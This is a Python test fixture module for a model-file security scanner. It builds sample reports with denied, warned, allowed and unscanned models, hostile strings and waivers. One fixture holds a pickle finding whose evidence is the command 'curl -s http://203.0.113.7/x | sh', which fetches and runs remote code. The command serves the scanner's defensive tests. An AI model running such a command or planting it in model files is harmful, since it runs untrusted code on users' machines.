"""One canonical report, built by hand: every kind of verdict, reason, ground and evidence."""

from dataclasses import replace

from tests.builders import origin
from weighbridge.core import (
    Applied,
    Artifact,
    Call,
    Code,
    Constant,
    Decision,
    Digest,
    Dossier,
    Effect,
    Entry,
    Face,
    Finding,
    Gap,
    GapKind,
    How,
    Import,
    Kind,
    Member,
    Named,
    Oddity,
    Operation,
    Place,
    Purpose,
    Reason,
    Reference,
    Remark,
    Report,
    Severity,
    Span,
    Tally,
    Tensor,
    Topic,
    Trait,
    Verdict,
    Waived,
    Weighed,
)

SHA = Digest("sha256", "6f1c0d7b" * 8)


def place(name="model.bin", start=0, stop=10, size=100):
    return Place(Artifact(name, size), Span(start, stop))


def finding(rule="dangerous-import", severity=Severity.CRITICAL, message="", evidence=(), fix=""):
    return Finding(rule, severity, message or f"says {rule}", tuple(evidence), fix)


def every_evidence(text="x"):
    """One piece of evidence of each type, with ``text`` wherever a file may put text."""
    here = place(f"{text}!/{text}", 3, 9)
    return (
        Face(here, "pickle", Kind.WEIGHTS),
        Import(here, Named(text, text), "GLOBAL", written=text),
        Call(
            here,
            How.CALL,
            Named(text, text),
            (Constant(text), Constant(text.encode("utf-8", "replace"))),
        ),
        Code(here, "python", text, runs=text, effects=frozenset({Effect.PROCESS})),
        Operation(here, text, text, ((text, Constant(1)),)),
        Tensor(here, text, text, (2, 2), Span(0, 16), 16),
        Member(here, text, 5, frozenset({Trait.DUPLICATE, Trait.LINK}), text, text),
        Entry(here, text, text),
        Reference(here, Purpose.CODE, text, text),
        Gap(here, GapKind.DAMAGED, text),
    )


def hostile(text):
    """A report with ``text`` in every field that a file, a path or a policy fills."""
    evidence = every_evidence(text)
    findings = tuple(
        finding(rule=f"rule-{at}", message=f"says {text}", evidence=(item,), fix=text)
        for at, item in enumerate(evidence)
    )
    reasons = tuple(
        Reason("serialisation", Verdict.DENY, one.message, (one,), one.rule, one.fix, text)
        for one in findings
    ) + tuple(Reason("completeness", Verdict.WARN, text, (item,)) for item in evidence)
    whence = origin.hostile(text)
    reasons += (Reason("lineage", Verdict.DENY, text, whence.claims[:3]),)
    dossier = Dossier(
        model=text,
        layout="folder",
        artifacts=(Artifact(text, 10),),
        evidence=evidence,
        findings=findings,
        claims=whence.claims,
        origin=whence.origin,
        tally=Tally(1, 10, 10, 0, (text,)),
        remarks=(Remark(text, Oddity.DECEPTIVE_NAME, text),),
    )
    waived = (Waived(reasons[0], text, text),)
    allowed = Weighed(dossier, Decision((Reason("x", Verdict.ALLOW, text),)))
    return Report(
        version="1.0.0",
        policy=Applied(text, text, SHA, (text, text)),
        models=(Weighed(dossier, Decision(reasons, waived)), allowed),
        hashed=False,
        skipped=(text,),
        notes=(text,),
    )


def forged(text):
    """The same, as somebody may have saved it: with ``text`` where only we write, too."""
    report = hostile(text)
    first, *others = report.models
    own = Reason(text, Verdict.DENY, text, (), text)
    named = Weighed(
        replace(first.dossier, layout=text),
        Decision((own, *first.decision.reasons), first.decision.waived),
    )
    return replace(report, version=text, models=(named, *others))


def empty():
    """A report on nothing."""
    return Report("1.0.0", Applied("default", "1.0.0", SHA, ("default.toml",)), (), hashed=False)


def crowded(count):
    """A report with very many reasons: every third warns, and 500 are about one file."""
    reasons = tuple(
        Reason(
            "serialisation",
            Verdict.WARN if at % 3 == 0 else Verdict.DENY,
            f"loading this file imports acme.part{at}",
            (
                Import(
                    place(f"part-{at // 500}.bin", at, at + 1, count + 1),
                    Named("acme", f"part{at}"),
                    "GLOBAL",
                ),
            ),
            "unlisted-import",
            "use a safetensors copy",
        )
        for at in range(count)
    )
    files = tuple(Artifact(f"part-{at}.bin", count + 1) for at in range(count // 500 + 1))
    unread = tuple(f"part-{at}.bin!/x/{at}" for at in range(count))
    dossier = Dossier(
        "models/many", "folder", files, tally=Tally(len(files), count, count, 0, unread)
    )
    report = empty()
    return replace(report, models=(Weighed(dossier, Decision(reasons)),))


def canonical():
    """A report with a denied, a warned, an allowed and an unjudged model, and a waiver."""
    return Report(
        version="1.0.0",
        policy=Applied("strict", "1.0.0", SHA, ("strict.toml", "default.toml")),
        models=(_denied(), _warned(), _allowed("models/good"), _allowed("models/fine"), _absent()),
        hashed=False,
        skipped=("'models/.git': history of a repository, which no loader reads",),
        notes=("waiver 'W-9' is for no model weighed here",),
    )


def _denied():
    where = place("pytorch_model.bin!/archive/data.pkl", 1234, 1250, 5000)
    command = Constant("curl -s http://203.0.113.7/x | sh")
    seen = (
        Call(where, How.CALL, Named("posix", "system"), (command,)),
        Import(place(where.artifact.name, 1200, 1215, 5000), Named("posix", "system"), "GLOBAL"),
    )
    runs = finding(
        message="loading this file runs posix.system",
        evidence=seen,
        fix="use a safetensors copy; do not load this file to convert it",
    )
    many = tuple(
        finding(
            "unlisted-import",
            Severity.HIGH,
            f"loading this file imports acme.part{at}",
            (Import(place("pytorch_model.bin", at, at + 1), Named("acme", f"part{at}"), "GLOBAL"),),
        )
        for at in range(7)
    )
    waived = finding(
        "outside-reference",
        Severity.HIGH,
        "a loader opens '../w.bin'",
        (Reference(place("config.json", 5, 9), Purpose.WEIGHTS, "../w.bin", "weights"),),
    )
    line = "default.toml:12  checks.serialisation.deny-at"
    reasons = tuple(
        Reason("serialisation", Verdict.DENY, one.message, (one,), one.rule, one.fix, line)
        for one in (*many, runs)
    )
    whence = origin.dossier()
    base = next(claim for claim in whence.claims if claim.topic is Topic.BASE_MODEL)
    reasons += (
        Reason(
            "lineage",
            Verdict.DENY,
            f"{base.value!r}, which it is fine-tuned from, is of DeepSeek, seat in China (CN)",
            (base,),
            "lineage",
            "choose a model whose whole lineage is allowed",
            "strict.toml:35  checks.lineage.deny",
        ),
    )
    lifted = Reason("serialisation", Verdict.DENY, waived.message, (waived,), waived.rule)
    return Weighed(
        Dossier(
            "models/acme-chat",
            "folder",
            (Artifact("config.json", 500), Artifact("pytorch_model.bin", 4_100_000_000)),
            findings=(runs, *many, waived),
            claims=whence.claims,
            origin=whence.origin,
            tally=Tally(2, 4_100_000_500, 60_000, 4_099_940_500),
        ),
        Decision(reasons, (Waived(lifted, "W-1", "reviewed; ada@example.com, until 2027-01-31"),)),
    )


def _warned():
    one = finding(
        "unlisted-class",
        Severity.MEDIUM,
        "loading this file makes acme.layers.Block",
        (Call(place("m.pkl", 4, 9), How.NEW, Named("acme.layers", "Block")),),
    )
    line = "default.toml:13  checks.serialisation.warn-at"
    reason = Reason("serialisation", Verdict.WARN, one.message, (one,), one.rule, "", line)
    return Weighed(
        Dossier(
            "models/m.pkl",
            "file",
            (Artifact("m.pkl", 100),),
            findings=(one,),
            tally=Tally(1, 100, 100),
        ),
        Decision((reason,)),
    )


def _allowed(name):
    reason = Reason(
        "serialisation", Verdict.ALLOW, "no code; read as 1 safetensors", rule="serialisation"
    )
    artifact = Artifact("model.safetensors", 1_200_000_000)
    face = Face(Place(artifact, Span(0, 1_200_000_000)), "safetensors", Kind.WEIGHTS)
    tally = Tally(1, 1_200_000_000, 5000, 1_199_995_000)
    return Weighed(Dossier(name, "folder", (artifact,), (face,), tally=tally), Decision((reason,)))


def _absent():
    whole = place("model.safetensors", 0, 133, 133)
    gap = Gap(whole, GapKind.ELSEWHERE, "a Git LFS pointer to 12300000000 bytes")
    one = finding("not-scanned", Severity.HIGH, gap.why, (gap,), "git lfs pull")
    reason = Reason("completeness", Verdict.NO_VERDICT, one.message, (one,), one.rule, one.fix)
    tally = Tally(1, 133, 133, 0, ("model.safetensors",))
    artifact = Artifact("model.safetensors", 133)
    return Weighed(
        Dossier("models/big", "folder", (artifact,), (gap,), (one,), tally=tally),
        Decision((reason,)),
    )
